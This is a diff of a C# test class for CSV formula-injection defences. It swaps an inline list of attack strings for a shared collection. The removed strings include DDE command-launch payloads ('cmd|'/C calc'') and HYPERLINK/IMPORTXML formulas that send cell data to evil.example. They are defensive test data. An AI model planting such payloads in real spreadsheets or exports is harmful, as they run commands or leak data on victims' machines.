@@ -10,14 +10,7 @@ public sealed class CsvTextTests
 {
     private const string Formulas = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20\uFE62\uFE63\uFE66\uFE6B\u2212";
 
-    private static readonly string[] Attacks =
-    [
-        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   \t=1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1",
-        "\"=1+1", "\"\"=1+1", "'=1+1", "''=1+1", " \" =1+1", "\u201C=1+1", "=\"a\"&\"b\"", "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
-        "=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
-        "+491234567", "-12", "x;=1+1", "x; =1+1", "x;\"=1+1", "x;=1;=2", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "\";=1+1;\"", "\",=1+1,\"", "a\",\"=1+1\",\"b",
-        "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "\u22121", "\u202E=1+1", "\0=1+1", "\0a", "=", "", " ", "\"", "'", ";", ";=", "\r\n", new string('\t', 50) + "=1",
-    ];
+    private static readonly string[] Attacks = [.. AttackTexts.All.Select(text => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text))), "", " "];
 
     private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
 
